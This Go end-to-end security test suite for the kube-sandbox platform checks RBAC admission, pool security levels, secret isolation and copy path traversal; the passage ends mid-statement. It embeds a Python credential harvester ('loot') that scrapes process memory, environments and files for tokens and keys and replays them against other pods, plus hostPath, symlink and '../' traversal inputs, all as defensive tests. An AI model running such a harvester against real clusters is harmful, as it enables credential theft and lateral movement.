//go:build e2e

package e2e

// The security suite: kube-sandbox's trust boundaries, tried as an attacker would on the real
// cluster. The attackers are a user who holds rights on sandboxes only (kube-sandbox-edit,
// nothing on pods), and hostile code inside a sandbox, root next to sandbox-execd.

import (
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/clientcmd"
)

const (
	// sandboxOnlyUser is bound to kube-sandbox-edit in the test's namespace: sandboxes and
	// pools, no pods.
	sandboxOnlyUser = "sandra"
	// podCreator is bound to the built-in edit role: pods too (and, aggregated, sandboxes).
	podCreator = "pat"
)

// bindUsers binds sandra and pat in ns and waits until RBAC says so.
func bindUsers(t *testing.T, ns string) {
	t.Helper()
	mustKubectl(t, "-n", ns, "create", "rolebinding", "sandbox-only", "--clusterrole=kube-sandbox-edit", "--user="+sandboxOnlyUser)
	mustKubectl(t, "-n", ns, "create", "rolebinding", "pod-creator", "--clusterrole=edit", "--user="+podCreator)
	for _, u := range []string{sandboxOnlyUser, podCreator} {
		waitFor(t, u+" may create sandboxes", 30*time.Second, func() (bool, string) {
			r := kubectl(t, "auth", "can-i", "-n", ns, "--as="+u, "create", "sandboxes.sandbox.kube-sandbox.io")
			return strings.TrimSpace(r.stdout) == "yes", r.stdout + r.stderr
		})
	}
	if r := kubectl(t, "auth", "can-i", "-n", ns, "--as="+sandboxOnlyUser, "create", "pods"); strings.TrimSpace(r.stdout) != "no" {
		t.Fatalf("%s may create pods (%q): the test needs a sandbox-only user", sandboxOnlyUser, r.stdout)
	}
}

// sandboxManifest is a Sandbox whose spec holds the given YAML lines (indented under spec:).
func sandboxManifest(name string, spec ...string) []byte {
	var b strings.Builder
	fmt.Fprintf(&b, "apiVersion: sandbox.kube-sandbox.io/v1alpha1\nkind: Sandbox\nmetadata: {name: %s}\nspec:\n  timeoutSeconds: 600\n", name)
	for _, l := range spec {
		b.WriteString("  " + l + "\n")
	}
	return []byte(b.String())
}

// TestSecurityTemplateAdmission: each template that gives more than a sandbox is refused for a
// sandbox-only user with a 403 naming the field, stores nothing, and is admitted for a user who
// may create pods.
func TestSecurityTemplateAdmission(t *testing.T) {
	t.Parallel()
	ns := newNamespace(t)
	bindUsers(t, ns)
	mustKubectl(t, "-n", ns, "create", "serviceaccount", "bot")
	mustKubectl(t, "-n", ns, "create", "secret", "generic", "db", "--from-literal=password=hunter2")
	container := func(extra ...string) []string {
		l := []string{"template:", "  spec:", "    containers:", "    - name: sandbox", "      image: " + pythonImage, "      imagePullPolicy: Never"}
		for _, e := range extra {
			l = append(l, "      "+e)
		}
		return l
	}
	withPod := func(pod []string, extra ...string) []string {
		l := container(extra...)
		for _, p := range pod {
			l = append(l, "    "+p)
		}
		return l
	}
	cases := []struct {
		name  string
		spec  []string
		field string
	}{
		{"privileged", container("securityContext: {privileged: true}"), "spec.template.spec.containers[0].securityContext.privileged"},
		{"host-ipc", withPod([]string{"hostIPC: true"}), "spec.template.spec.hostIPC"},
		{"host-pid", withPod([]string{"hostPID: true"}), "spec.template.spec.hostPID"},
		{"host-path", withPod([]string{"volumes: [{name: root, hostPath: {path: /}}]"}, "volumeMounts: [{name: root, mountPath: /host}]"),
			"spec.template.spec.volumes[0]"},
		{"added-capability", container("securityContext: {capabilities: {add: [SYS_ADMIN]}}"), "spec.template.spec.containers[0].securityContext.capabilities"},
		{"service-account-token", withPod([]string{"serviceAccountName: bot", "automountServiceAccountToken: true"}), "spec.template.spec.serviceAccountName"},
		{"secret-volume", withPod([]string{"volumes: [{name: db, secret: {secretName: db}}]"}, "volumeMounts: [{name: db, mountPath: /db}]"),
			"spec.template.spec.volumes[0]"},
		{"secret-env", append(container(), "env: [{name: PASSWORD, valueFrom: {secretKeyRef: {name: db, key: password}}}]"), "spec.env[0].valueFrom"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			manifest := sandboxManifest(c.name, c.spec...)
			r := run(t, manifest, "kubectl", "-n", ns, "--as="+sandboxOnlyUser, "create", "-f", "-")
			if r.code == 0 || !strings.Contains(r.stderr, "Forbidden") && !strings.Contains(r.stderr, "forbidden") || !strings.Contains(r.stderr, c.field) {
				t.Fatalf("%s: exit %d: %s%s\nwant forbidden, naming %s", sandboxOnlyUser, r.code, r.stdout, r.stderr, c.field)
			}
			if !strings.Contains(r.stderr, "create pods") {
				t.Errorf("the refusal does not say what right it takes: %s", r.stderr)
			}
			if g := kubectl(t, "-n", ns, "get", "batchsandbox", c.name); g.code == 0 || !strings.Contains(g.stderr, "NotFound") {
				t.Errorf("a refused sandbox was stored: %s%s", g.stdout, g.stderr)
			}
			r = run(t, manifest, "kubectl", "-n", ns, "--as="+podCreator, "create", "-f", "-")
			if r.code != 0 {
				t.Fatalf("%s, who may create pods: exit %d: %s", podCreator, r.code, r.stderr)
			}
			// The controller makes the pod (the kube-apiserver admits it: the namespace
			// enforces nothing); it need not start for the point to be made.
			waitFor(t, "the sandbox's pod", 30*time.Second, func() (bool, string) {
				g := kubectl(t, "-n", ns, "get", "pod", c.name+"-0")
				return g.code == 0, g.stderr
			})
			mustKubectl(t, "-n", ns, "delete", "sandbox", c.name, "--wait=false")
		})
	}

	t.Run("a pod creator's privileged sandbox is not for a sandbox-only user", func(t *testing.T) {
		if r := run(t, sandboxManifest("pats", container("securityContext: {privileged: true}")...), "kubectl", "-n", ns, "--as="+podCreator, "create", "-f", "-"); r.code != 0 {
			t.Fatalf("create: %s", r.stderr)
		}
		waitSandboxRunning(t, ns, 90*time.Second, "pats")
		mustSandboxCmd(t, ns, "--as="+podCreator, "exec", "pats", "--", "true")
		for what, argv := range map[string][]string{
			"exec":     {"kubectl", "sandbox", "-n", ns, "--as=" + sandboxOnlyUser, "exec", "pats", "--", "id"},
			"cp":       {"kubectl", "sandbox", "-n", ns, "--as=" + sandboxOnlyUser, "cp", "pats:/etc/hostname", "-"},
			"proxy":    {"kubectl", "--as=" + sandboxOnlyUser, "get", "--raw", "/apis/sandbox.kube-sandbox.io/v1alpha1/namespaces/" + ns + "/sandboxes/pats/proxy/8080/"},
			"scale up": {"kubectl", "-n", ns, "--as=" + sandboxOnlyUser, "patch", "sandbox", "pats", "--type=merge", "-p", `{"spec":{"replicas":2}}`},
		} {
			r := run(t, nil, argv[0], argv[1:]...)
			if r.code == 0 || !strings.Contains(r.stderr, "pod security level") || !strings.Contains(r.stderr, "create pods") {
				t.Errorf("%s as %s: exit %d: %s%s; want forbidden, saying it needs the right to create pods", what, sandboxOnlyUser, r.code, r.stdout, r.stderr)
			}
		}
		if r := kubectl(t, "-n", ns, "--as="+podCreator, "patch", "sandbox", "pats", "--type=merge", "-p", `{"spec":{"replicas":2}}`); r.code != 0 {
			t.Errorf("%s scales up: %s", podCreator, r.stderr)
		}
		mustKubectl(t, "-n", ns, "delete", "sandbox", "pats", "--wait=false")
	})

	t.Run("a plain template needs nothing more", func(t *testing.T) {
		r := run(t, sandboxManifest("plain", container()...), "kubectl", "-n", ns, "--as="+sandboxOnlyUser, "create", "-f", "-")
		if r.code != 0 {
			t.Fatalf("%s: exit %d: %s", sandboxOnlyUser, r.code, r.stderr)
		}
		waitSandboxRunning(t, ns, 90*time.Second, "plain")
		// Hardened: no token, seccomp, no privilege escalation, NET_RAW dropped.
		var pod struct {
			Spec struct {
				AutomountServiceAccountToken *bool
				SecurityContext              struct{ SeccompProfile struct{ Type string } }
				Containers                   []struct {
					Name            string
					SecurityContext struct {
						AllowPrivilegeEscalation *bool
						Capabilities             struct{ Drop []string }
					}
				}
			}
		}
		getJSON(t, &pod, "-n", ns, "get", "pod", "plain-0")
		c := pod.Spec.Containers[0].SecurityContext
		if pod.Spec.AutomountServiceAccountToken == nil || *pod.Spec.AutomountServiceAccountToken ||
			pod.Spec.SecurityContext.SeccompProfile.Type != "RuntimeDefault" ||
			c.AllowPrivilegeEscalation == nil || *c.AllowPrivilegeEscalation || !strings.Contains(strings.Join(c.Capabilities.Drop, ","), "NET_RAW") {
			t.Errorf("the sandbox pod is not hardened: %+v", pod.Spec)
		}
		out := mustSandboxCmd(t, ns, "exec", "plain", "--", "sh", "-c", "ls /var/run/secrets/kubernetes.io 2>&1; grep CapEff /proc/self/status")
		if !strings.Contains(out, "No such file") {
			t.Errorf("a service account token is mounted: %s", out)
		}
		// NET_RAW is bit 13, NET_ADMIN bit 12.
		var capEff uint64
		i := strings.Index(out, "CapEff:")
		if i < 0 {
			t.Fatalf("no CapEff in %q", out)
		}
		if _, err := fmt.Sscanf(out[i:], "CapEff:\t%x", &capEff); err != nil || capEff&(1<<13|1<<12) != 0 {
			t.Errorf("effective capabilities %x (%v): NET_RAW or NET_ADMIN", capEff, err)
		}
	})
}

// TestSecurityPools: a sandbox-only user may write pools, but a pool's template is held to
// the platform's level whoever wrote it, and only a user who may create pods may give a pool
// the namespace's level (the ValidatingAdmissionPolicy kube-sandbox-pools) or take sandboxes
// from such a pool.
func TestSecurityPools(t *testing.T) {
	t.Parallel()
	ns := newNamespace(t)
	bindUsers(t, ns)
	pool := func(name, podSecurity string, template ...string) []byte {
		var b strings.Builder
		fmt.Fprintf(&b, "apiVersion: control.kube-sandbox.io/v1alpha1\nkind: Pool\nmetadata: {name: %s}\nspec:\n", name)
		if podSecurity != "" {
			fmt.Fprintf(&b, "  podSecurity: %s\n", podSecurity)
		}
		b.WriteString("  capacitySpec: {bufferMin: 1, bufferMax: 1, poolMin: 0, poolMax: 3}\n  template:\n    spec:\n")
		fmt.Fprintf(&b, "      containers:\n      - name: sandbox\n        image: %s\n        imagePullPolicy: Never\n", pythonImage)
		for _, l := range template {
			b.WriteString("      " + l + "\n")
		}
		return []byte(b.String())
	}

	t.Run("a privileged pool that mounts / makes no pods", func(t *testing.T) {
		manifest := pool("rootfs", "", "  securityContext: {privileged: true}", "  volumeMounts: [{name: root, mountPath: /host}]",
			"volumes: [{name: root, hostPath: {path: /}}]")
		if r := run(t, manifest, "kubectl", "-n", ns, "--as="+sandboxOnlyUser, "apply", "-f", "-"); r.code != 0 {
			t.Fatalf("apply: exit %d: %s", r.code, r.stderr)
		}
		p := waitPool(t, ns, "rootfs", "Ready False, TemplateRefused", 30*time.Second, func(p poolObject) bool {
			return findCondition(p.Status.Conditions, "Ready").Reason == "TemplateRefused"
		})
		msg := findCondition(p.Status.Conditions, "Ready").Message
		if !strings.Contains(msg, "privileged") || !strings.Contains(msg, "volumes[0]") {
			t.Errorf("the condition does not name the fields: %s", msg)
		}
		if r := kubectl(t, "-n", ns, "get", "events", "--field-selector=involvedObject.name=rootfs", "-o", "jsonpath={.items[*].reason}"); !strings.Contains(r.stdout, "TemplateRefused") {
			t.Errorf("no TemplateRefused event: %q %s", r.stdout, r.stderr)
		}
		// A sandbox from it waits with the reason, and gets no pod.
		if r := sandboxCmd(t, ns, "--as="+sandboxOnlyUser, "create", "from-rootfs", "--pool", "rootfs"); r.code != 0 {
			t.Fatalf("create: %s", r.stderr)
		}
		waitSandbox(t, ns, "from-rootfs", "PoolNotAllowed", 30*time.Second, func(s sandboxObject) bool {
			return findCondition(s.Status.Conditions, "Ready").Reason == "PoolNotAllowed"
		})
		if idle, allocated := poolPods(t, ns, "rootfs"); len(idle)+len(allocated) != 0 {
			t.Errorf("the refused pool has pods: %v %v", podNames(idle), podNames(allocated))
		}
	})

	t.Run("only a pod creator gives a pool the namespace's level", func(t *testing.T) {
		manifest := pool("elevated", "Namespace")
		r := run(t, manifest, "kubectl", "-n", ns, "--as="+sandboxOnlyUser, "apply", "-f", "-")
		if r.code == 0 || !strings.Contains(r.stderr, "podSecurity") {
			t.Fatalf("%s: exit %d: %s, want refused naming podSecurity", sandboxOnlyUser, r.code, r.stderr)
		}
		if g := kubectl(t, "-n", ns, "get", "pool", "elevated"); g.code == 0 {
			t.Fatal("the refused pool was stored")
		}
		if r := run(t, manifest, "kubectl", "-n", ns, "--as="+podCreator, "apply", "-f", "-"); r.code != 0 {
			t.Fatalf("%s: exit %d: %s", podCreator, r.code, r.stderr)
		}
		waitPoolFull(t, ns, "elevated", 1, 0, 90*time.Second)
		// sandra may change neither its template nor take sandboxes from it.
		r = kubectl(t, "-n", ns, "--as="+sandboxOnlyUser, "patch", "pool", "elevated", "--type=merge", "-p", `{"spec":{"template":{"spec":{"hostPID":true}}}}`)
		if r.code == 0 || !strings.Contains(r.stderr, "podSecurity") {
			t.Errorf("%s changes the elevated pool's template: exit %d: %s", sandboxOnlyUser, r.code, r.stderr)
		}
		r = sandboxCmd(t, ns, "--as="+sandboxOnlyUser, "create", "s-elevated", "--pool", "elevated")
		if r.code == 0 || !strings.Contains(r.stderr, "forbidden") || !strings.Contains(r.stderr, "spec.poolRef.name") {
			t.Errorf("%s takes a sandbox from the elevated pool: exit %d: %s", sandboxOnlyUser, r.code, r.stderr)
		}
		if r := sandboxCmd(t, ns, "--as="+podCreator, "create", "p-elevated", "--pool", "elevated"); r.code != 0 {
			t.Fatalf("%s: %s", podCreator, r.stderr)
		}
		waitSandboxRunning(t, ns, 60*time.Second, "p-elevated")
	})
}

// loot is what hostile code in a sandbox does: it collects every credential-looking thing it
// can read (the environment and memory of every process, execd's included; every file outside
// /usr, /proc, /sys, /dev), then tries each, alone and together, on the execd of every address
// given, and reports as JSON. It never learns the Secret's value: it reports whatever matches
// the marker's pattern, and the test compares.
const loot = `
import json, os, re, socket, ssl, sys, tempfile
MARKER = re.compile(rb"kube-sandbox-e2e-secret-[0-9a-f]{16}")
JWT = re.compile(rb"eyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}")
PEM = re.compile(rb"-----BEGIN ([A-Z ]+)-----[A-Za-z0-9+/=\s]+?-----END \1-----")
found = {"tokens": set(), "keys": set(), "certs": set(), "markers": set()}
scanned = {"files": 0, "memory": {}}
def scan(data):
    for m in MARKER.finditer(data): found["markers"].add(m.group().decode())
    for m in JWT.finditer(data): found["tokens"].add(m.group().decode())
    for m in PEM.finditer(data):
        kind = m.group(1).decode()
        if "PRIVATE KEY" in kind: found["keys"].add(m.group().decode())
        elif kind == "CERTIFICATE": found["certs"].add(m.group().decode())
scan(open("/proc/self/environ", "rb").read())
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid(): continue
    for name in ("environ", "cmdline"):
        try:
            with open("/proc/%s/%s" % (pid, name), "rb") as f: scan(f.read())
        except OSError: pass
    try:
        maps = open("/proc/%s/maps" % pid).read().splitlines()
        mem = open("/proc/%s/mem" % pid, "rb", 0)
    except OSError: continue
    n = 0
    for line in maps:
        addr, perms = line.split()[:2]
        if not perms.startswith("r"): continue
        lo, hi = (int(x, 16) for x in addr.split("-"))
        if hi - lo > 1 << 30: continue
        try:
            mem.seek(lo); chunk = mem.read(hi - lo)
        except (OSError, OverflowError, ValueError): continue
        n += len(chunk); scan(chunk)
    scanned["memory"][pid] = n
for root, dirs, files in os.walk("/"):
    if root == "/": dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr")]
    for f in files:
        p = os.path.join(root, f)
        try:
            if os.path.islink(p) or not os.path.isfile(p) or os.path.getsize(p) > 1 << 20: continue
            with open(p, "rb") as fh: scan(fh.read())
            scanned["files"] += 1
        except OSError: pass
tmp = tempfile.mkdtemp()
idents = [("no certificate", None)]
certs, keys, tokens = sorted(found["certs"]), sorted(found["keys"]), sorted(found["tokens"])
for i, c in enumerate(certs):
    for j, k in enumerate(keys):
        cf, kf = "%s/c%d.pem" % (tmp, i), "%s/k%d.pem" % (tmp, j)
        open(cf, "w").write(c); open(kf, "w").write(k)
        try: ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).load_cert_chain(cf, kf)
        except ssl.SSLError: continue
        idents.append(("certificate %d with key %d" % (i, j), (cf, kf)))
REQUESTS = [("GET", "/metrics", b""), ("GET", "/v1/identity", b""), ("POST", "/v1/claim", b"{}"),
            ("GET", "/files/etc/hostname", b""), ("PUT", "/files/tmp/planted", b"planted by another sandbox"),
            ("POST", "/exec?command=id&output=1", b""), ("GET", "/proxy/8080/", b"")]
def http(sock, method, path, body, token):
    head = "%s %s HTTP/1.1\r\nHost: execd\r\nConnection: close\r\nContent-Length: %d\r\n" % (method, path, len(body))
    if token: head += "Authorization: Bearer %s\r\n" % token
    sock.sendall(head.encode() + b"\r\n" + body)
    data = b""
    while True:
        chunk = sock.recv(65536)
        if not chunk: break
        data += chunk
    return "status " + data.split(b"\r\n", 1)[0].decode(errors="replace") if data else "closed without an answer"
attempts = []
for ip in sys.argv[1:]:
    for how, ident in idents:
        for token in [None] + tokens:
            for method, path, body in REQUESTS:
                ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
                ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
                if ident: ctx.load_cert_chain(*ident)
                try:
                    with socket.create_connection((ip, 44771), timeout=5) as raw:
                        with ctx.wrap_socket(raw) as s: result = http(s, method, path, body, token)
                except OSError as e: result = "refused: %s" % e
                attempts.append({"target": ip, "port": 44771, "how": how + (" and a token" if token else ""),
                                 "request": method + " " + path, "result": result})
    for port in (44771, 44772):
        for method, path, body in REQUESTS:
            try:
                with socket.create_connection((ip, port), timeout=5) as s:
                    result = http(s, method, path, body, tokens[0] if tokens else None)
            except OSError as e: result = "refused: %s" % e
            attempts.append({"target": ip, "port": port, "how": "plain HTTP", "request": method + " " + path, "result": result})
print(json.dumps({"found": {k: sorted(v) for k, v in found.items()}, "scanned": scanned, "attempts": attempts}))
`

type lootReport struct {
	Found struct {
		Tokens, Keys, Certs, Markers []string
	}
	Scanned struct {
		Files  int
		Memory map[string]int
	}
	Attempts []struct {
		Target, How, Request, Result string
		Port                         int
	}
}

// TestSecuritySandboxHoldsNothing: hostile code in a pooled sandbox collects everything it can
// read (its environment, execd's memory, its files) and tries it all on the execd of the pool's
// idle pods, of another sandbox and its own: every TLS attempt fails without a client
// certificate of the kube-sandbox CA (metrics included), the health port serves probes only,
// the tokens it finds open nothing in the kube-apiserver, it never sees the namespace's Secret,
// and the next user of the pool finds nothing planted.
func TestSecuritySandboxHoldsNothing(t *testing.T) {
	t.Parallel()
	ns := newNamespace(t)
	buf := make([]byte, 8)
	_, _ = rand.Read(buf)
	secret := "kube-sandbox-e2e-secret-" + hex.EncodeToString(buf)
	mustKubectl(t, "-n", ns, "create", "secret", "generic", "crown-jewels", "--from-literal=value="+secret)
	applyPool(t, ns, "victims", 2, 2, 6)
	waitPoolFull(t, ns, "victims", 2, 0, 90*time.Second)
	mustSandboxCmd(t, ns, "create", "attacker", "--pool", "victims", "--timeout", "10m")
	createRunningSandbox(t, ns, "neighbour")
	waitSandboxRunning(t, ns, 60*time.Second, "attacker")
	waitPoolFull(t, ns, "victims", 2, 1, 90*time.Second)

	idle, allocated := poolPods(t, ns, "victims")
	targets := map[string]string{} // IP -> what it is
	for _, p := range idle {
		targets[p.Status.PodIP] = "idle pool pod " + p.Metadata.Name
	}
	for _, p := range allocated {
		targets[p.Status.PodIP] = "the attacker's own pod " + p.Metadata.Name
	}
	targets[getPod(t, ns, "neighbour-0").Status.PodIP] = "another sandbox's pod"
	args := []string{"exec", "attacker", "--", "python3", "-c", loot}
	for ip := range targets {
		if ip == "" {
			t.Fatalf("a pod without an IP: %v", targets)
		}
		args = append(args, ip)
	}
	out := mustSandboxCmd(t, ns, args...)
	var rep lootReport
	if err := json.Unmarshal([]byte(out), &rep); err != nil {
		t.Fatalf("the report: %v\n%s", err, out)
	}
	t.Logf("scanned %d files and the memory of %d processes %v; found %d tokens, %d private keys, %d certificates; %d attempts",
		rep.Scanned.Files, len(rep.Scanned.Memory), rep.Scanned.Memory, len(rep.Found.Tokens), len(rep.Found.Keys), len(rep.Found.Certs), len(rep.Attempts))

	// The scan saw what there is to see: execd's memory, the pod's own key and token.
	if rep.Scanned.Memory["1"] == 0 {
		t.Errorf("read nothing of execd's memory: the scan proves nothing")
	}
	if len(rep.Found.Keys) == 0 || len(rep.Found.Tokens) == 0 {
		t.Errorf("found no key or no token: the scan proves nothing (the pod's own are there)")
	}
	for _, m := range rep.Found.Markers {
		if m == secret {
			t.Errorf("the namespace's Secret is readable in the sandbox")
		}
	}

	outcomes := map[string]int{} // how, port and result, for the log
	for _, a := range rep.Attempts {
		outcomes[fmt.Sprintf("port %d, %s: %s", a.Port, a.How, a.Result)]++
	}
	for o, n := range outcomes {
		t.Logf("%3d × %s", n, o)
	}
	for _, a := range rep.Attempts {
		what := fmt.Sprintf("%s (%s) port %d, %s, %s: %s", a.Target, targets[a.Target], a.Port, a.How, a.Request, a.Result)
		switch {
		case a.Port == 44771 && a.How == "plain HTTP":
			if !strings.HasPrefix(a.Result, "refused") && !strings.Contains(a.Result, " 400 ") {
				t.Errorf("%s; want it refused", what)
			}
		case a.Port == 44771:
			if !strings.HasPrefix(a.Result, "refused") {
				t.Errorf("%s; want the TLS handshake refused", what)
			}
		case a.Port == 44772 && strings.HasPrefix(targets[a.Target], "the attacker's own pod"):
			if !strings.Contains(a.Result, " 404 ") && !strings.Contains(a.Result, " 405 ") {
				t.Errorf("%s; the health port serves only probes", what)
			}
		case a.Port == 44772:
			// The platform's always-deny keeps a sandbox from other pods altogether.
			if !strings.HasPrefix(a.Result, "refused") {
				t.Errorf("%s; want it refused by the sandbox's egress policy", what)
			}
		}
	}
	if len(rep.Attempts) < len(targets)*2*len(rep.Found.Tokens) {
		t.Errorf("%d attempts, fewer than the targets and credentials make", len(rep.Attempts))
	}

	t.Run("the tokens found open nothing in the kube-apiserver", func(t *testing.T) {
		server := mustKubectl(t, "config", "view", "--raw", "--minify", "-o", "jsonpath={.clusters[0].cluster.server}")
		ca := mustKubectl(t, "config", "view", "--raw", "--minify", "-o", "jsonpath={.clusters[0].cluster.certificate-authority-data}")
		for i, tok := range rep.Found.Tokens {
			cfg := filepath.Join(t.TempDir(), "kubeconfig")
			kc := fmt.Sprintf("apiVersion: v1\nkind: Config\nclusters: [{name: c, cluster: {server: %q, certificate-authority-data: %s}}]\n"+
				"users: [{name: u, user: {token: %q}}]\ncontexts: [{name: c, context: {cluster: c, user: u}}]\ncurrent-context: c\n", server, ca, tok)
			if err := os.WriteFile(cfg, []byte(kc), 0o600); err != nil {
				t.Fatal(err)
			}
			r := kubectl(t, "--kubeconfig", cfg, "-n", ns, "get", "secrets")
			if r.code == 0 || !strings.Contains(r.stderr, "Unauthorized") {
				t.Errorf("token %d: get secrets: exit %d: %s%s; want Unauthorized", i, r.code, r.stdout, r.stderr)
			}
		}
	})

	t.Run("the next user of the pool finds nothing planted", func(t *testing.T) {
		mustSandboxCmd(t, ns, "create", "next", "--pool", "victims", "--timeout", "10m")
		waitSandboxRunning(t, ns, 60*time.Second, "next")
		pod := getSandbox(t, ns, "next").pod(0).Name
		if !strings.HasPrefix(targets[getPod(t, ns, pod).Status.PodIP], "idle pool pod") {
			t.Errorf("next got %s, which was not attacked: the check proves nothing", pod)
		}
		if r := sandboxCmd(t, ns, "exec", "next", "--", "cat", "/tmp/planted"); r.code == 0 {
			t.Errorf("a file planted by the attacker is in the next sandbox: %q", r.stdout)
		}
	})
}

// TestSecurityServiceAccountsReadNoSecrets: the components' service accounts read no Secret
// outside kube-sandbox-system.
func TestSecurityServiceAccountsReadNoSecrets(t *testing.T) {
	t.Parallel()
	ns := newNamespace(t)
	for _, sa := range []string{"sandbox-apiserver", "sandbox-controller"} {
		as := "--as=system:serviceaccount:kube-sandbox-system:" + sa
		for _, verb := range []string{"get", "list", "watch", "create", "update", "delete"} {
			for _, scope := range [][]string{{"-n", ns}, {"--all-namespaces"}} {
				r := kubectl(t, append(append([]string{"auth", "can-i", as}, scope...), verb, "secrets")...)
				if strings.TrimSpace(r.stdout) != "no" {
					t.Errorf("%s may %s secrets %v: %q %s", sa, verb, scope, r.stdout, r.stderr)
				}
			}
		}
	}
	// The question can be answered yes: the controller keeps the CA in its own namespace.
	r := kubectl(t, "auth", "can-i", "--as=system:serviceaccount:kube-sandbox-system:sandbox-controller", "-n", "kube-sandbox-system", "get", "secrets")
	if strings.TrimSpace(r.stdout) != "yes" {
		t.Errorf("sandbox-controller may not get secrets in its own namespace: %q %s", r.stdout, r.stderr)
	}
}

// TestSecurityRestrictedNamespace: in a namespace that enforces the restricted level, a
// template that meets it yields pods that the kube-apiserver admits (the injected parts meet it
// too), direct and pooled, and exec and files work; one that does not is 422 for everyone.
func TestSecurityRestrictedNamespace(t *testing.T) {
	t.Parallel()
	ns := newNamespace(t)
	mustKubectl(t, "label", "namespace", ns, "pod-security.kubernetes.io/enforce=restricted", "pod-security.kubernetes.io/warn=restricted")
	bindUsers(t, ns)
	restricted := []string{
		"template:", "  spec:",
		"    securityContext: {runAsNonRoot: true, runAsUser: 1000, runAsGroup: 1000, seccompProfile: {type: RuntimeDefault}}",
		"    containers:", "    - name: sandbox", "      image: " + pythonImage, "      imagePullPolicy: Never",
		"      securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}",
	}
	if r := run(t, sandboxManifest("nonroot", restricted...), "kubectl", "-n", ns, "--as="+sandboxOnlyUser, "create", "-f", "-"); r.code != 0 {
		t.Fatalf("create: exit %d: %s", r.code, r.stderr)
	}
	waitSandboxRunning(t, ns, 90*time.Second, "nonroot")
	if out := mustSandboxCmd(t, ns, "--as="+sandboxOnlyUser, "exec", "nonroot", "--", "id", "-u"); out != "1000\n" {
		t.Errorf("id -u: %q", out)
	}
	local := filepath.Join(t.TempDir(), "f")
	if err := os.WriteFile(local, []byte("restricted"), 0o600); err != nil {
		t.Fatal(err)
	}
	mustSandboxCmd(t, ns, "--as="+sandboxOnlyUser, "cp", local, "nonroot:/tmp/f")
	if out := mustSandboxCmd(t, ns, "exec", "nonroot", "--", "cat", "/tmp/f"); out != "restricted" {
		t.Errorf("the file in the sandbox: %q", out)
	}

	for _, as := range []string{sandboxOnlyUser, podCreator} {
		r := sandboxCmd(t, ns, "--as="+as, "create", "root-"+as, "--image", pythonImage)
		if r.code == 0 || !strings.Contains(r.stderr, "Invalid") && !strings.Contains(r.stderr, "invalid") || !strings.Contains(r.stderr, "spec.template.spec") {
			t.Errorf("%s creates a root sandbox in a restricted namespace: exit %d: %s; want 422 with field paths", as, r.code, r.stderr)
		}
	}

	t.Run("pooled", func(t *testing.T) {
		manifest := fmt.Sprintf(`apiVersion: control.kube-sandbox.io/v1alpha1
kind: Pool
metadata: {name: nonroot}
spec:
  capacitySpec: {bufferMin: 1, bufferMax: 1, poolMin: 0, poolMax: 2}
  template:
    spec:
      securityContext: {runAsNonRoot: true, runAsUser: 1000, seccompProfile: {type: RuntimeDefault}}
      containers:
      - name: sandbox
        image: %s
        imagePullPolicy: Never
        securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}
`, pythonImage)
		if r := run(t, []byte(manifest), "kubectl", "-n", ns, "--as="+sandboxOnlyUser, "apply", "-f", "-"); r.code != 0 {
			t.Fatalf("apply: %s", r.stderr)
		}
		waitPoolFull(t, ns, "nonroot", 1, 0, 90*time.Second)
		mustSandboxCmd(t, ns, "--as="+sandboxOnlyUser, "create", "pooled", "--pool", "nonroot")
		waitSandboxRunning(t, ns, 60*time.Second, "pooled")
		if out := mustSandboxCmd(t, ns, "--as="+sandboxOnlyUser, "exec", "pooled", "--", "id", "-u"); out != "1000\n" {
			t.Errorf("id -u: %q", out)
		}
	})
}

// TestSecurityCopyHostileListing: kubectl sandbox cp writes nothing outside its destination,
// whatever the listing says: a sandbox's symbolic links are skipped, and a server that names
// entries to escape (the kubectl cp class of CVEs) is refused with the name.
func TestSecurityCopyHostileListing(t *testing.T) {
	t.Parallel()
	ns := newNamespace(t)
	createRunningSandbox(t, ns, "links")
	mustSandboxCmd(t, ns, "exec", "links", "--", "sh", "-c",
		"mkdir -p /tmp/d/sub && echo fine > /tmp/d/fine && echo deep > /tmp/d/sub/deep && ln -s /etc/passwd /tmp/d/passwd && ln -s / /tmp/d/root && ln -s ../../.. /tmp/d/sub/up")
	dst := filepath.Join(t.TempDir(), "dst")
	r := sandboxCmd(t, ns, "cp", "links:/tmp/d", dst)
	if r.code != 0 {
		t.Fatalf("cp: exit %d: %s", r.code, r.stderr)
	}
	var got []string
	_ = filepath.Walk(dst, func(p string, fi os.FileInfo, err error) error {
		if err == nil && p != dst {
			rel, _ := filepath.Rel(dst, p)
			got = append(got, fmt.Sprintf("%s %s", rel, fi.Mode().Type()))
		}
		return nil
	})
	if strings.Join(got, ",") != "fine ----------,sub d---------,sub/deep ----------" {
		t.Errorf("copied %v; want the regular files and the directory, no links", got)
	}
	if !strings.Contains(r.stderr, "skipping symbolic link") {
		t.Errorf("cp does not say it skipped links: %s", r.stderr)
	}

	for _, name := range []string{"../escaped", "a/../../escaped", "/escaped", `..\escaped`, ".."} {
		t.Run(fmt.Sprintf("%q", name), func(t *testing.T) {
			srv := hostileFilesServer(t, name)
			parent := t.TempDir()
			cfg := filepath.Join(t.TempDir(), "kubeconfig")
			kc := fmt.Sprintf("apiVersion: v1\nkind: Config\nclusters: [{name: c, cluster: {server: %q}}]\nusers: [{name: u, user: {token: t}}]\n"+
				"contexts: [{name: c, context: {cluster: c, user: u, namespace: default}}]\ncurrent-context: c\n", srv.URL)
			if err := os.WriteFile(cfg, []byte(kc), 0o600); err != nil {
				t.Fatal(err)
			}
			r := run(t, nil, "kubectl", "sandbox", "--kubeconfig", cfg, "cp", "evil:d", filepath.Join(parent, "dst"))
			if r.code == 0 || !strings.Contains(r.stderr, "refusing an entry") || !strings.Contains(r.stderr, fmt.Sprintf("%q", name)) {
